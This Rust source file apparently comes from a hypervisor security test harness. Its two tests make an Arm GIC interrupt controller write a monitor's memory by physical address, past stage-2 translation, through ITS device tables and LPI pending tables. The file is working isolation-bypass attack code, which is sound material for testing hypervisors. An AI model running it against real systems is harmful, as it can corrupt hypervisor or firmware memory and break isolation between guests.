//! Runs that make the interrupt controller write memory: translation tables of the ITS, and pending bits of LPIs. The
//! controller writes both by physical address (Arm IHI 0069, chapters 5 and 6), past stage 2. The target is `addr=A`, a
//! monitor's memory. The hypervisor there must still answer an HVC.

// UNSAFETY: tables that the interrupt controller writes.
#![expect(unsafe_code, reason = "tables that the controller writes")]

use core::cell::UnsafeCell;
use core::sync::atomic::{AtomicU64, Ordering::Relaxed};

use super::{Context, Test};
use crate::fault::Fault;
use crate::mmio::{fault_of, read32, read64, write32, write64};
use crate::{psci, uart};
use vpmu_payload_harness::{BootArgs, Failure, Pass, Text, Verdict, check};

pub(super) const ITS: &[Test] = &[("attack.its", its)];
pub(super) const LPI: &[Test] = &[("attack.lpi", lpi)];

/// The ITS address of QEMU's `virt`, for a tree that does not give one.
const VIRT_ITS: u64 = 0x0808_0000;

const GITS_CTLR: u64 = 0x0;
const GITS_CBASER: u64 = 0x80;
const GITS_CWRITER: u64 = 0x88;
const GITS_CREADR: u64 = 0x90;
const GITS_BASER: u64 = 0x100;
const VALID: u64 = 1 << 63;
/// GITS_BASER<n>.Type of the device table.
const DEVICES: u64 = 1;
const INT: u64 = 0x03;
const MAPD: u64 = 0x08;
const MAPC: u64 = 0x09;
const MAPTI: u64 = 0x0a;

/// Number of overwritten bytes: an image's head with its vectors.
const LENGTH: u64 = 0x1_0000;

/// Commands that a page holds.
const COMMANDS: usize = 128;

#[repr(align(4096))]
struct Queue([[AtomicU64; 4]; COMMANDS]);

static QUEUE: Queue = Queue([const { [const { AtomicU64::new(0) }; 4] }; COMMANDS]);

/// Memory for the controller's own tables.
#[repr(align(65536))]
struct Memory(UnsafeCell<[u8; 0x1_0000]>);

// SAFETY: only the controller touches this memory.
unsafe impl Sync for Memory {}

impl Memory {
    const fn new() -> Self {
        Self(UnsafeCell::new([0; 0x1_0000]))
    }

    fn address(&self) -> u64 {
        self.0.get() as u64
    }
}

static TABLE: Memory = Memory::new();
static DEVICE_TABLE: Memory = Memory::new();
static COLLECTION_TABLE: Memory = Memory::new();
static EVENT_TABLE: Memory = Memory::new();

fn target(cx: &Context) -> Result<u64, Failure> {
    BootArgs::parse(cx.machine.bootargs)
        .address
        .ok_or_else(|| Failure(Text::new(format_args!("needs addr=ADDRESS"))))
}

/// Checks that the hypervisor at EL2 answers that it knows no such function.
fn hypervisor_answers() -> Verdict {
    let answer = psci::hypervisor_call(0xc600_ff00);
    check("answer to an HVC", answer, u64::MAX)?;
    Ok(Pass::Ok)
}

/// The ITS, taking commands.
struct Its {
    base: u64,
    /// The next command's place in the queue.
    next: usize,
}

impl Its {
    /// Starts the ITS with a table (64 KiB) for each kind of its tables. Returns the ITS and the
    /// bytes of a device's entry.
    fn start(cx: &Context, table: impl Fn(u64) -> u64) -> (Self, u64) {
        let base = cx.machine.its.unwrap_or(VIRT_ITS);
        uart::print(format_args!("payload: the ITS at {base:#x}\n"));
        write32(base + GITS_CTLR, 0);
        let mut entry = 8;
        for n in 0..8 {
            let register = base + GITS_BASER + n * 8;
            let old = read64(register);
            let kind = old >> 56 & 7;
            if kind != 0 {
                // The table is one page of 64 KiB.
                write64(register, VALID | table(kind) | 2 << 8);
            }
            if kind == DEVICES {
                entry = (old >> 48 & 0x1f) + 1;
            }
        }
        write64(base + GITS_CBASER, VALID | &raw const QUEUE as u64);
        write64(base + GITS_CWRITER, 0);
        write32(base + GITS_CTLR, 1);
        (Self { base, next: 0 }, entry)
    }

    /// Makes the ITS execute a command.
    fn command(&mut self, words: [u64; 3]) {
        for (place, word) in QUEUE.0[self.next].iter().zip(words) {
            place.store(word, Relaxed);
        }
        self.next = (self.next + 1) % COMMANDS;
        let next = self.next as u64 * 32;
        write64(self.base + GITS_CWRITER, next);
        while read64(self.base + GITS_CREADR) & 0xf_ffe0 != next {}
    }
}

/// Points the device table at the target and maps devices.
fn its(cx: &Context) -> Verdict {
    let target = target(cx)?;
    let base = cx.machine.its.unwrap_or(VIRT_ITS);
    if fault_of(|| write32(base + GITS_CTLR, 0)).is_some_and(Fault::is_external) {
        uart::print(format_args!("payload: nothing is at {base:#x}\n"));
        return hypervisor_answers();
    }
    let (mut its, entry) = Its::start(cx, |kind| {
        if kind == DEVICES {
            target
        } else {
            TABLE.address()
        }
    });
    for device in 0..LENGTH / entry {
        its.command([MAPD | device << 32, 0, VALID | TABLE.address()]);
    }
    uart::print(format_args!("payload: the ITS took every command\n"));
    hypervisor_answers()
}

/// Points the pending table at the target and makes LPIs pending: directly, and by the ITS.
fn lpi(cx: &Context) -> Verdict {
    const GICR_SETLPIR: u64 = 0x40;
    const GICR_PROPBASER: u64 = 0x70;
    const GICR_PENDBASER: u64 = 0x78;
    const ENABLE_LPIS: u32 = 1;
    /// LPIs whose pending bits are those of an image's vectors.
    const LPIS: core::ops::Range<u64> = 0x8000..0x1_0000;
    let target = target(cx)?;
    let frame = cx.gic.private() - 0x1_0000;
    // LPIs have 16 bits; all are disabled, so that they stay pending.
    write64(frame + GICR_PROPBASER, TABLE.address() | 15);
    write64(frame + GICR_PENDBASER, target);
    write32(frame, ENABLE_LPIS);
    for intid in LPIS {
        write64(frame + GICR_SETLPIR, intid);
    }
    if read32(frame) & ENABLE_LPIS != 0 {
        uart::print(format_args!("payload: LPIs are enabled\n"));
        let (mut its, _) = Its::start(cx, |kind| match kind {
            DEVICES => DEVICE_TABLE.address(),
            _ => COLLECTION_TABLE.address(),
        });
        // One device with one event; collection 0 is CPU 0.
        its.command([MAPD, 0, VALID | EVENT_TABLE.address()]);
        its.command([MAPC, 0, VALID]);
        for intid in LPIS {
            its.command([MAPTI, intid << 32, 0]);
            its.command([INT, 0, 0]);
        }
    }
    hypervisor_answers()
}
